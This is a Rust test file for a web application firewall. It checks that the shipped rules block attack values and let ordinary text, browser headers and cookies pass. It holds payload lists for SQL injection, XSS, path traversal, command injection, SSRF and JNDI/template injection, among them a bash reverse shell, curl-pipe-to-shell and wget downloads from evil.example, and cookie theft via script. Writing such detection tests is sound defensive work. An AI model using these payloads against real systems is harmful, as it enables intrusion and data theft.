//! The shipped rules: what they stop, and what they let through.

mod common;

use common::{Sent, shipped};
use secbeat_types::{Action, Category};

/// Values that are attacks wherever a value may be.
const ATTACKS: &[(Category, &[&str])] = &[
    (
        Category::SqlInjection,
        &[
            "1' OR '1'='1",
            "1 union select 1,2 from users",
            "1/**/union/**/all/**/select/**/null,null",
            "1 UnIoN\nSeLeCt password FROM accounts",
            "' or 1=1--",
            "admin'--",
            "x'; drop table users; --",
            "1; DELETE FROM orders WHERE 1=1",
            "1 and sleep(5)",
            "1' and benchmark(5000000,md5(1))#",
            "1'; waitfor delay '0:0:5'--",
            "1 or pg_sleep(10)",
            "1 and (select count(*) from information_schema.tables) > 5",
            "1' and extractvalue(1,concat(0x7e,version()))-- -",
            "'; exec xp_cmdshell('dir')--",
            "1' order by 12-- -",
            "-1' union select load_file('/etc/passwd'),2#",
            "a' or ''='",
        ],
    ),
    (
        Category::Xss,
        &[
            "<script>alert(1)</script>",
            "<ScRiPt src=//evil.example/x.js>",
            "<img src=x onerror=alert(1)>",
            "<svg/onload=alert(document.domain)>",
            "\"><svg onload=confirm`1`>",
            "<a href=\"javascript:alert(1)\">x</a>",
            "\" onmouseover=\"alert(1)",
            "<iframe src=//evil.example></iframe>",
            "<body onpageshow=alert(1)>",
            "<math><a xlink:href=javascript:alert(1)>x",
            "java\tscript:alert(1)",
            "&lt;script&gt;alert(1)&lt;/script&gt;",
            "\\u003cscript\\u003ealert(1)",
            "<details open ontoggle=prompt(1)>",
            "';document.location='//evil.example/?'+document.cookie;//",
        ],
    ),
    (
        Category::PathTraversal,
        &[
            "../../etc/passwd",
            "..%2f..%2fetc/passwd",
            "..\\..\\windows\\win.ini",
            "/etc/passwd\0.png",
            "....//....//etc/passwd",
            "..;/..;/manager",
            "%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini",
            "php://filter/convert.base64-encode/resource=index",
            "file:///etc/passwd",
        ],
    ),
    (
        Category::CommandInjection,
        &[
            ";cat /etc/passwd",
            "x | id",
            "$(whoami)",
            "`id`",
            "a && curl http://evil.example/x|sh",
            "x;wget http://evil.example/x -O /tmp/x",
            "x;c'a't /etc/pas\"s\"wd",
            "x;cat${IFS}/etc/passwd",
            "127.0.0.1 & ping -n 30 127.0.0.1",
            "|/bin/ls -al",
            "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
            "() { :;}; /bin/bash -c id",
        ],
    ),
    (
        Category::Ssrf,
        &[
            "http://169.254.169.254/latest/meta-data/",
            "http://localhost:6379/",
            "http://127.0.0.1/admin",
            "http://[::1]:8080/",
            "http://2130706433/",
            "http://0x7f000001/",
            "http://user@127.0.0.1/",
            "gopher://127.0.0.1:6379/_INFO",
            "http://metadata.google.internal/computeMetadata/v1/",
        ],
    ),
    (
        Category::Rce,
        &[
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}ndi:${lower:l}dap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
            "{{7*7}}",
            "{{config.__class__.__init__.__globals__}}",
            "${7*7}",
            "<?php system('id'); ?>",
            "O:8:\"Evil\\Thing\":1:{s:1:\"a\";i:1;}",
            "<!DOCTYPE x [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>",
            "T(java.lang.Runtime).getRuntime().exec('id')",
        ],
    ),
];

/// Values that people and programs send every day.
const ORDINARY: &[&str] = &[
    "select a gift from our union store",
    "update settings",
    "How do I write a SELECT statement that joins two tables? I tried UPDATE and it set everything to NULL.",
    "The European Union select committee met and or but not where",
    "drop by the table; delete the old files from your computer",
    "O'Brien",
    "rock 'n' roll",
    "It's 5' 10\" tall -- or 6' 2\" at most",
    "Tom & Jerry",
    "salt & more pepper; less sugar",
    "if a && b then c || d",
    "It's 5 > 3 && 2 < 4",
    "3 & less < more",
    "c++ <vector> tutorial",
    "a < b and b > c",
    "x = y + 2 * (3 - 1)",
    "price $(100) or ${amount}",
    "Hello {{ name }}, welcome",
    "https://example.com/path?x=1&y=2",
    "https://www.example.com/a/b.html#section-2",
    "jane.doe+shop@example.com",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U",
    "TWFuIGlzIGRpc3Rpbmd1aXNoZWQsIG5vdCBvbmx5IGJ5IGhpcyByZWFzb24=",
    "0f8fad5b-d9cb-469f-a165-70867728950e",
    "1-1",
    "2024-05-01T10:00:00+02:00",
    "# Title\n\n* one\n* two\n\nRun `make test` and see [the docs](https://docs.example.com/a).",
    "JavaScript: The Good Parts",
    "C:\\Users\\Jane\\Documents\\report.docx",
    "50% off, 100% cotton",
    "Müller & Söhne GmbH – Straße 5",
    "北京市朝阳区",
    "who was the last cat to find the mouse?",
    "Please sleep well; id card required",
    "name|id|price",
    "sort=price;desc",
    "(555) 123-4567",
    "~/projects and /usr/local are folders",
    "one, two; three: four",
    "\"quoted\" and 'single' and \"more\"",
    "I like cats and dogs, not that one",
    "null",
    "true",
    "[1,2,3]",
    "AT&T, B&W, R&D",
    "<3 you",
    "Order #1234 -- urgent",
    "width:100%;height:auto",
    "I had to select one from below, then where do I go?",
    "(select all that apply)",
    "Can I order by 5 pm? Group by 10 people, limit 2 each",
    "she said \"no\" and he is \"fine\" or so",
    "We can't and won't. They're 'in' or 'out'.",
    "1 and 2 or 3",
    "call me; drop a line; create an account; execute the plan",
    "grant access to users; delete from cart",
    "char grill, concat, cast iron, convert units",
    "Script: a play. Alert: read this! Please confirm (by mail).",
    "on load, on error, onset = 5",
    "font-family: Arial; color: #fff; @media print",
    "let x = a ? b : c; // note",
    "ping me or echo it; type here; find us & more",
    "file: report (1).pdf",
    "GET started with HTTP/2",
    "C# or F#? R&D; Q&A",
    "{\"a\":1,\"b\":[true,null]}",
    "<b>bold</b> and <i>italic</i>",
    "&copy; 2024 &amp; more",
    "../images/logo.png",
    "https://maps.example.com/@48.85,2.35,12z/data=!3m1!4b1",
    "a:1|b:2|c:3",
    "'tis the season -- 20% off",
    "benchmark results (5 runs) and sleep (8 hours)",
];

#[test]
fn every_attack_is_stopped_in_a_query_plain_encoded_and_doubly_encoded() {
    let rules = shipped();
    let mut passed = Vec::new();
    for (category, attacks) in ATTACKS {
        for attack in *attacks {
            for sent in [Sent::query_percent(attack), Sent::query_plus(attack), Sent::query_twice(attack)] {
                let (action, categories) = sent.judge(&rules);
                if action != Action::Block || !categories.contains(category) {
                    passed.push(format!("{category:?} {attack:?}: {action:?} {categories:?}"));
                }
            }
        }
    }
    assert!(passed.is_empty(), "{passed:#?}");
}

#[test]
fn every_attack_is_stopped_in_every_kind_of_body() {
    let rules = shipped();
    let mut passed = Vec::new();
    for attack in ATTACKS.iter().flat_map(|(_, attacks)| *attacks) {
        for sent in [Sent::form(attack), Sent::json(attack), Sent::multipart(attack), Sent::xml(attack)] {
            // Two levels up are left alone in a body: people write them in text.
            if sent.judge(&rules).0 != Action::Block && !attack.contains("..") && !attack.contains("%c0") {
                passed.push(format!("{attack:?} {sent:?}"));
            }
        }
    }
    assert!(passed.is_empty(), "{passed:#?}");
}

#[test]
fn injections_are_stopped_in_cookies_and_headers() {
    let rules = shipped();
    for (category, attacks) in ATTACKS {
        for attack in *attacks {
            if *category == Category::SqlInjection && !attack.contains(';') {
                assert_eq!(Sent::cookie(attack).judge(&rules).0, Action::Block, "cookie {attack:?}");
            }
            if matches!(category, Category::SqlInjection | Category::Xss) && !attack.contains('\n') {
                assert_eq!(
                    Sent::header("Referer", attack).judge(&rules).0,
                    Action::Block,
                    "header {attack:?}"
                );
            }
        }
    }
    for name in ["User-Agent", "Accept", "X-Api-Version", "Accept-Language"] {
        assert_eq!(
            Sent::header(name, "${jndi:ldap://evil.example/a}").judge(&rules).0,
            Action::Block,
            "{name}"
        );
    }
}

#[test]
fn raw_attacks_in_a_target_are_stopped() {
    let rules = shipped();
    for target in [
        "/?q=<script>alert(1)</script>",
        "/<script>alert(1)</script>",
        "/?id=1'+or+'1'='1",
        "/?<svg/onload=alert(1)>",
    ] {
        assert_eq!(Sent::target(target).judge(&rules).0, Action::Block, "{target}");
    }
}

#[test]
fn paths_that_only_an_attacker_asks_for_are_stopped() {
    let rules = shipped();
    for path in [
        "/../../etc/passwd",
        "/..%2f..%2fetc/passwd",
        "/static/%2e%2e/%2e%2e/etc/passwd",
        "/cgi-bin/.%2e/.%2e/bin/sh",
        "/.env",
        "/.git/config",
        "/x/../.git/HEAD",
        "//.aws/credentials",
        "/wp-config.php.bak",
        "/wp-config.php~",
        "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
        "/index.php?class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        "/actuator/heapdump",
        "/images/shell.php",
        "/backup.sql",
        "/a%00.html",
    ] {
        assert_eq!(Sent::target(path).judge(&rules).0, Action::Block, "{path}");
    }
}

#[test]
fn scanners_that_say_their_name_are_stopped() {
    let rules = shipped();
    for agent in [
        "sqlmap/1.7.2#stable (https://sqlmap.org)",
        "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)",
        "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
        "masscan/1.3",
        "gobuster/3.6",
        "WPScan v3.8.22 (https://wpscan.org/)",
        "Mozilla/5.0 (compatible; Nuclei - Open-source project)",
        "SQLMap/1.0",
    ] {
        let (action, categories) = Sent::header("User-Agent", agent).judge(&rules);
        assert_eq!(action, Action::Block, "{agent}");
        assert!(categories.iter().all(|category| *category == Category::Scanner), "{agent}: {categories:?}");
    }
}

#[test]
fn ordinary_values_pass_everywhere() {
    let rules = shipped();
    let mut stopped = Vec::new();
    for value in ORDINARY {
        for sent in [
            Sent::query_percent(value),
            Sent::query_plus(value),
            Sent::form(value),
            Sent::json(value),
            Sent::multipart(value),
            Sent::xml(value),
            Sent::header("Referer", &format!("https://www.example.com/search?q={}", common::percent(value))),
        ] {
            let (action, categories) = sent.judge(&rules);
            if action != Action::Pass {
                stopped.push(format!("{value:?}: {action:?} {categories:?} {sent:?}"));
            }
        }
    }
    assert!(stopped.is_empty(), "{stopped:#?}");
}

#[test]
fn fifty_requests_with_a_browsers_real_headers_pass() {
    let rules = shipped();
    let mut count = 0;
    for browser in common::BROWSERS {
        for target in common::PAGES {
            let sent = Sent::page(target, browser);
            assert_eq!(sent.judge(&rules).0, Action::Pass, "{sent:?}");
            count += 1;
        }
    }
    assert!(count >= 50, "{count}");
}

// What an earlier firewall of this kind got wrong.

#[test]
fn a_space_in_any_spelling_does_not_hide_union_select() {
    let rules = shipped();
    for value in [
        "1%20union%20select%201,2%20from%20users",
        "1+union+select+1,2+from+users",
        "1%0aunion%0Dselect%091,2+from+x",
    ] {
        assert_eq!(Sent::target(&format!("/?id={value}")).judge(&rules).0, Action::Block, "{value}");
    }
}

#[test]
fn encoded_slashes_do_not_hide_a_traversal() {
    let rules = shipped();
    assert_eq!(Sent::target("/?file=..%2f..%2fetc/passwd").judge(&rules).0, Action::Block);
    assert_eq!(Sent::target("/..%2f..%2fetc/passwd").judge(&rules).0, Action::Block);
}

#[test]
fn a_browsers_accept_header_is_no_sql_injection() {
    let rules = shipped();
    for accept in [
        "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
        "image/avif,image/webp,image/apng,image/svg+xml,image/*,*/*;q=0.8",
        "*/*",
    ] {
        assert_eq!(Sent::header("Accept", accept).judge(&rules), (Action::Pass, vec![]), "{accept}");
    }
}

#[test]
fn a_second_cookie_is_no_command_injection() {
    let sent = Sent::header("Cookie", "a=1; _ga=GA1.2.123.456; theme=dark; cat=5; id=7; ls=1");
    assert_eq!(sent.judge(&shipped()), (Action::Pass, vec![]));
}

#[test]
fn bodies_are_inspected() {
    let rules = shipped();
    for sent in [Sent::form("1' OR '1'='1"), Sent::json("1' OR '1'='1"), Sent::multipart("1' OR '1'='1")] {
        assert_eq!(sent.judge(&rules).0, Action::Block, "{sent:?}");
    }
}

#[test]
fn the_shipped_file_is_strict_and_every_rule_has_its_category() {
    let rules = shipped();
    assert!((35..=100).contains(&rules.rules().len()));
    for rule in rules.rules() {
        assert!(rule.id.starts_with("sb-") && rule.category != Category::Other, "{}", rule.id);
    }
}
